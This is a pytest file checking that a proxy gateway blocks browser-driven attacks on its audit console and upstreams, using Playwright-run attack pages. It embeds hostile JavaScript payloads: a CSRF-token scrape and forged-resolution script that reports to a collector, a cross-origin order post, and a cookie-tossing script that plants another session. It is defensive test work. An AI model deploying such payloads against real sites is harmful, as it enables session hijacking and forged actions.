"""Web browsers: no page can use the gateway's proxy, and none served through it can reach the audit.

The first tests send what a browser sends (``Origin``, ``Sec-Fetch-Site``) from an HTTP client; the
last ones run the attacks in Debian's headless Chromium (driven by Playwright, as in
tests/test_audit_browser.py): a script in a page an upstream answers, with the operator signed in to the
audit in the same browser, and a page on another origin posting an effect through the gateway.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Browser, BrowserContext, Page

from tests.database import effect_rows, empty_effects
from tests.gateways import gateway_server
from tests.upstreams import Upstream, serving, upstream_server

pytestmark = pytest.mark.asyncio(loop_scope="module")

AUDIT = "/_gateway/audit"
ORDER = {"Idempotency-Key": "k1", "Content-Type": "application/json"}


@pytest_asyncio.fixture(loop_scope="module")
async def shop() -> AsyncIterator[Upstream]:
    async with upstream_server() as server:
        yield server


@pytest_asyncio.fixture(loop_scope="module")
async def http() -> AsyncIterator[aiohttp.ClientSession]:
    async with aiohttp.ClientSession() as session:
        yield session


@pytest_asyncio.fixture(loop_scope="module")
async def db(postgres_dsn: str) -> AsyncIterator[str]:
    """The test database, each test starting from an empty audit and a shop that has seen nothing."""
    await empty_effects(postgres_dsn)
    yield postgres_dsn


LISTED = "https://app.example.com"


def upstreams(shop: Upstream, **extra: Any) -> dict[str, Any]:
    secret = {"inject_headers": {"Authorization": "Bearer sk_live_held_by_the_gateway"}}
    return {"shop": {"base_url": shop.url, **secret, **extra}}


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "http://127.0.0.1:9"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": "same-origin"},
        {"Origin": "https://app.example.com.evil.test", "Sec-Fetch-Site": "cross-site"},
    ],
)
async def test_a_pages_request_is_refused_and_nothing_is_sent_or_recorded(
    db: str, shop: Upstream, http: aiohttp.ClientSession, headers: dict[str, str]
) -> None:
    """A request a page made (it carries Origin, or Sec-Fetch-Site other than none): 403, nothing sent."""
    shop.calls.clear()
    async with gateway_server(db, upstreams=upstreams(shop, browser_origins=[LISTED])) as gw:
        async with http.post(f"{gw.url}/shop/orders", data=b"{}", headers={**ORDER, **headers}) as resp:
            assert resp.status == 403
            problem = await resp.json(content_type=None)
        async with http.options(f"{gw.url}/shop/orders", headers=headers) as preflight:
            assert preflight.status == 403
            assert "Access-Control-Allow-Origin" not in preflight.headers
    assert problem["type"].endswith("/browser-refused")
    assert "browser_origins" in problem["detail"]
    assert shop.calls == []
    assert await effect_rows(db) == []


async def test_a_listed_origin_and_a_person_typing_the_address_go_through(
    db: str, shop: Upstream, http: aiohttp.ClientSession
) -> None:
    """A page on a listed origin, its preflight included, reaches the upstream; so does a typed address."""
    shop.calls.clear()
    listed = {"Origin": LISTED, "Sec-Fetch-Site": "cross-site"}
    async with gateway_server(db, upstreams=upstreams(shop, browser_origins=[LISTED])) as gw:
        async with http.options(f"{gw.url}/shop/orders", headers=listed) as preflight:
            assert preflight.status == 201  # the upstream's own answer to it, relayed
        async with http.post(f"{gw.url}/shop/orders", data=b"{}", headers={**ORDER, **listed}) as resp:
            assert resp.status == 201
        async with http.get(f"{gw.url}/shop/catalogue", headers={"Sec-Fetch-Site": "none"}) as typed:
            assert typed.status == 201
    assert [(c.method, c.path) for c in shop.calls] == [
        ("OPTIONS", "/orders"),
        ("POST", "/orders"),
        ("GET", "/catalogue"),
    ]


async def test_the_agents_listener_serves_no_admin_route(
    db: str, shop: Upstream, http: aiohttp.ClientSession
) -> None:
    """The audit, the effects API and the metrics answer on the admin listener only; health on both."""
    async with gateway_server(db, upstreams=upstreams(shop)) as gw:
        assert gw.admin_url != gw.url
        for path in (AUDIT, AUDIT + "/1", "/_gateway/effects", "/_gateway/metrics", "/_gateway/openapi.json"):
            async with http.get(gw.url + path) as on_proxy, http.get(gw.admin_url + path) as on_admin:
                assert on_proxy.status == 404, path
                assert on_admin.status in (200, 404), path
                assert on_admin.status == 200 or path == AUDIT + "/1"
        async with http.get(gw.url + "/_gateway/health") as ready:
            assert (ready.status, await ready.json()) == (200, {"status": "ok"})


@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate"},
        {"Origin": LISTED, "Sec-Fetch-Site": "cross-site"},
    ],
    ids=["typed-address", "listed-origin"],
)
async def test_a_browsers_cookies_never_reach_the_upstream(
    db: str, shop: Upstream, http: aiohttp.ClientSession, headers: dict[str, str]
) -> None:
    """A request a browser sent carries the cookies of the gateway's host, every port's: the upstream
    gets none of them. An agent's own Cookie header still goes through."""
    shop.calls.clear()
    cookie = {"Cookie": "local_app_session=s3cr3t; effect_gateway_audit=x"}
    async with gateway_server(db, upstreams=upstreams(shop, browser_origins=[LISTED])) as gw:
        async with http.get(f"{gw.url}/shop/catalogue", headers={**headers, **cookie}) as resp:
            assert resp.status == 201
        async with http.get(f"{gw.url}/shop/catalogue", headers=cookie) as agents:
            assert agents.status == 201
        # Node's built-in fetch sends Sec-Fetch-Mode on every request an agent makes: not a browser's.
        node = {**cookie, "Sec-Fetch-Mode": "cors"}
        async with http.get(f"{gw.url}/shop/catalogue", headers=node) as undici:
            assert undici.status == 201
    from_browser, from_agent, from_node = shop.calls
    assert "Cookie" not in from_browser.headers
    assert not [value for name, value in from_browser.header_list if name.lower() == "cookie"]
    assert from_agent.headers["Cookie"] == from_node.headers["Cookie"] == cookie["Cookie"]


# --- in a real browser ------------------------------------------------------------------------------


def _flaky(shop: Upstream) -> None:
    """``/orders`` answers 500: the order may have been placed; with no probe it waits for an operator."""

    async def boom(request: web.Request) -> web.Response:
        await request.read()
        return web.Response(status=500, text="upstream broke")

    shop.routes["/orders"] = boom


async def _needs_review(http: aiohttp.ClientSession, url: str) -> None:
    for _ in range(2):  # the 500 leaves it in doubt; the retry finds nothing to recover it by
        async with http.post(f"{url}/shop/orders", data=b"{}", headers=ORDER) as resp:
            await resp.read()


async def test_a_script_in_an_upstreams_page_cannot_resolve_an_effect_with_the_operators_session(
    db: str, shop: Upstream, http: aiohttp.ClientSession, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A script in a page an upstream answers reads nothing of the audit the operator is signed in to,
    resolves nothing, and the agent's retry sends nothing."""
    # Served on the audit's origin, the script read the CSRF token and the attempt, posted "did not
    # happen", and the next retry placed the order a second time.
    shop.calls.clear()
    monkeypatch.setenv("ADMIN", "adm-1")
    seen: list[dict[str, Any]] = []
    reported = asyncio.Event()

    async def report(request: web.Request) -> web.Response:
        seen.append(json.loads(await request.text()))
        reported.set()
        return web.Response(text="ok", headers={"Access-Control-Allow-Origin": "*"})

    collector = web.Application()
    collector.router.add_post("/report", report)
    _flaky(shop)
    async with (
        serving(collector) as collected,
        gateway_server(db, upstreams=upstreams(shop), admin={"token": "env:ADMIN"}) as gw,
    ):
        await _needs_review(http, gw.url)

        async def page(request: web.Request) -> web.Response:
            return web.Response(
                text=_ATTACK.format(admin=gw.admin_url, report=collected), content_type="text/html"
            )

        shop.routes["/help"] = page
        context = await browser.new_context()
        try:
            tab = await context.new_page()
            await tab.goto(gw.admin_url + AUDIT)
            await tab.get_by_label("Token").fill("adm-1")
            await tab.get_by_role("button", name="Sign in").click()
            await tab.get_by_role("heading", name="Effects").wait_for()
            await tab.goto(gw.url + "/shop/help")  # the person follows a link to the shop's help page
            await asyncio.wait_for(reported.wait(), 30)
        finally:
            await context.close()
        async with http.post(f"{gw.url}/shop/orders", data=b"{}", headers=ORDER) as retry:
            assert retry.status == 409
            assert (await retry.json())["type"].endswith("/outcome-unknown")
    (attempts,) = seen
    assert attempts["read"] == [], "the script read a page of the audit"
    assert [r["state"] for r in await effect_rows(db)] == ["needs_review"]
    assert len(shop.effects("/orders")) == 1  # the first send only: nothing told the gateway to send again


# The attack: read the effect's page (where the form's CSRF token and attempt are), then post the verdict,
# both at the path on the page's own origin and at the admin listener's address; report what it read.
_ATTACK = """<!doctype html><title>Help</title><p>Help</p><script>
(async () => {{
  const read = [];
  const targets = ["/_gateway/audit/1", "{admin}/_gateway/audit/1"];
  for (const url of targets) {{
    try {{
      const r = await fetch(url, {{credentials: "include"}});
      const text = await r.text();
      const csrf = /name="csrf" value="([^"]+)"/.exec(text);
      const attempt = /name="attempt" value="([^"]+)"/.exec(text);
      if (csrf) {{
        read.push(url);
        const form = new URLSearchParams({{csrf: csrf[1], attempt: attempt ? attempt[1] : "1",
                                           happened: "no"}});
        await fetch(url + "/resolve", {{method: "POST", body: form, credentials: "include"}});
      }}
    }} catch (e) {{}}
    try {{
      const form = new URLSearchParams({{csrf: "x", attempt: "1", happened: "no"}});
      await fetch(url + "/resolve", {{method: "POST", body: form, credentials: "include", mode: "no-cors"}});
    }} catch (e) {{}}
  }}
  await fetch("{report}/report", {{method: "POST", body: JSON.stringify({{read}})}});
}})();
</script>"""


async def test_a_page_on_another_origin_cannot_send_an_effect_through_the_gateway(
    db: str, shop: Upstream, http: aiohttp.ClientSession, browser: Browser
) -> None:
    """A page on another origin cannot place an order through the gateway, even where the upstream
    answers every CORS preflight: the upstream receives nothing."""
    # Forwarded, the upstream's preflight answer let the page's POST through, with the credentials the
    # gateway injects.
    shop.calls.clear()

    async def permissive(request: web.Request) -> web.Response:
        # As many APIs answer: anyone may call, with any header.
        cors = {
            "Access-Control-Allow-Origin": "*",
            "Access-Control-Allow-Headers": "*",
            "Access-Control-Allow-Methods": "POST",
        }
        body = await request.read()
        if request.method == "OPTIONS":
            return web.Response(status=204, headers=cors)
        return web.json_response({"id": len(body)}, status=201, headers=cors)

    shop.routes["/orders"] = permissive
    outcome: list[str] = []
    done = asyncio.Event()
    async with gateway_server(db, upstreams=upstreams(shop)) as gw:

        async def page(request: web.Request) -> web.Response:
            return web.Response(text=_CROSS_ORIGIN.format(gateway=gw.url), content_type="text/html")

        async def result(request: web.Request) -> web.Response:
            outcome.append(await request.text())
            done.set()
            return web.Response(text="ok")

        other = web.Application()
        other.router.add_get("/", page)
        other.router.add_post("/result", result)
        async with serving(other) as elsewhere:
            context = await browser.new_context()
            try:
                tab = await context.new_page()
                # localhost is another origin than the gateway's 127.0.0.1 (and another site).
                await tab.goto(elsewhere.replace("127.0.0.1", "localhost") + "/")
                await asyncio.wait_for(done.wait(), 30)
            finally:
                await context.close()
    assert outcome == ["refused"]
    assert shop.calls == []
    assert await effect_rows(db) == []


_CROSS_ORIGIN = """<!doctype html><title>Win a prize</title><script>
(async () => {{
  let result = "refused";
  try {{
    const r = await fetch("{gateway}/shop/orders", {{method: "POST",
      headers: {{"Idempotency-Key": "k1", "Content-Type": "application/json"}}, body: "{{}}"}});
    result = "answered " + r.status;
  }} catch (e) {{}}
  await fetch("/result", {{method: "POST", body: result}});
}})();
</script>"""


async def test_a_local_apps_cookie_is_not_sent_upstream_when_the_person_opens_a_link_through_the_gateway(
    db: str, shop: Upstream, browser: Browser
) -> None:
    """Cookies ignore ports: another web app on 127.0.0.1 sets its session cookie, and the person then
    opens the shop's page through the gateway. The shop gets the page request, without that cookie.

    The gateway forwarded the browser's Cookie header, so the upstream received the local app's session.
    """
    shop.calls.clear()

    async def sign_in(request: web.Request) -> web.Response:
        resp = web.Response(text="signed in")
        resp.set_cookie("local_app_session", "s3cr3t-local-session", path="/", httponly=True)
        return resp

    local_app = web.Application()
    local_app.router.add_get("/", sign_in)
    async with serving(local_app) as local, gateway_server(db, upstreams=upstreams(shop)) as gw:
        context = await browser.new_context()
        try:
            tab = await context.new_page()
            await tab.goto(local + "/")
            cookies = [c["name"] for c in await context.cookies(gw.url)]
            assert cookies == ["local_app_session"]  # the browser holds it for the gateway's host too
            answer = await tab.goto(gw.url + "/shop/catalogue")
            assert answer is not None
            assert answer.status == 201
        finally:
            await context.close()
    (page,) = shop.calls
    assert page.path == "/catalogue"
    assert not [value for name, value in page.header_list if name.lower() == "cookie"]


# A page that sets a cookie of the audit's name for every path of its host: cookies ignore ports, so the
# browser sends it to the admin listener too, after the operator's own (longer paths first).
_TOSS = """<!doctype html><title>Help</title><p>Help</p><script>
document.cookie = "effect_gateway_audit={value}; path=/";
document.title = "tossed";
</script>"""


async def _sign_in(tab: Page, admin_url: str, token: str) -> None:
    await tab.goto(admin_url + AUDIT)
    await tab.get_by_label("Token").fill(token)
    await tab.get_by_role("button", name="Sign in").click()
    await tab.wait_for_load_state()


async def _visit(tab: Page, url: str) -> None:
    await tab.goto(url)
    await tab.wait_for_function("document.title === 'tossed'", timeout=30_000)


async def _session_paths(context: BrowserContext) -> list[str]:
    return sorted(c["path"] for c in await context.cookies() if c["name"] == "effect_gateway_audit")


async def test_a_cookie_an_upstreams_page_sets_for_every_path_cannot_lock_the_operator_out(
    db: str, shop: Upstream, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The operator is signed in; a page an upstream returns sets a junk audit cookie for Path=/. The
    audit then asks to sign in again, saying why, and signing in works: the junk copy is gone.

    aiohttp kept the last cookie of the name, the junk one, and the operator stayed locked out, signing
    in again and again."""
    monkeypatch.setenv("ADMIN", "adm-1")

    async def page(request: web.Request) -> web.Response:
        return web.Response(text=_TOSS.format(value="x"), content_type="text/html")

    shop.routes["/help"] = page
    async with gateway_server(db, upstreams=upstreams(shop), admin={"token": "env:ADMIN"}) as gw:
        context = await browser.new_context()
        try:
            tab = await context.new_page()
            await _sign_in(tab, gw.admin_url, "adm-1")
            await tab.get_by_role("heading", name="Effects").wait_for()
            await _visit(tab, gw.url + "/shop/help")
            assert await _session_paths(context) == ["/", AUDIT]
            await tab.goto(gw.admin_url + AUDIT)
            await tab.get_by_role("heading", name="Sign in").wait_for()
            told = await tab.content()
            await _sign_in(tab, gw.admin_url, "adm-1")
            # A page of the audit loads in milliseconds; 10 s only bounds the wait for one that never comes.
            await tab.get_by_role("heading", name="Effects").wait_for(timeout=10_000)
            assert await _session_paths(context) == [AUDIT]
        finally:
            await context.close()
    assert "Your browser sent two audit sessions" in told


async def test_a_tenants_session_planted_by_another_local_page_never_becomes_the_operators(
    db: str, shop: Upstream, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A tenant signs in, takes its own session cookie, and has a page on another local port set it for
    Path=/ in the operator's browser. The operator, signed in as admin, is asked to sign in again; they
    never see the audit as that tenant.

    The planted session was read instead of the operator's, and the operator saw one tenant's effects
    as if they were all."""
    monkeypatch.setenv("ADMIN", "adm-1")
    monkeypatch.setenv("T1", "tenant-one-token")
    settings: dict[str, Any] = {"admin": {"token": "env:ADMIN"}, "tenants": {"t1": {"token": "env:T1"}}}
    async with gateway_server(db, upstreams=upstreams(shop), **settings) as gw:
        tenants_browser = await browser.new_context()
        try:
            await _sign_in(await tenants_browser.new_page(), gw.admin_url, "tenant-one-token")
            (planted,) = [
                c["value"] for c in await tenants_browser.cookies() if c["name"] == "effect_gateway_audit"
            ]
        finally:
            await tenants_browser.close()

        async def page(request: web.Request) -> web.Response:
            return web.Response(text=_TOSS.format(value=planted), content_type="text/html")

        other = web.Application()
        other.router.add_get("/", page)
        async with serving(other) as elsewhere:
            context = await browser.new_context()
            try:
                tab = await context.new_page()
                await _sign_in(tab, gw.admin_url, "adm-1")
                await tab.get_by_text("admin · until").wait_for()
                await _visit(tab, elsewhere + "/")
                await tab.goto(gw.admin_url + AUDIT)
                shown = await tab.content()
            finally:
                await context.close()
    assert "Your browser sent two audit sessions" in shown
    assert "tenant t1" not in shown
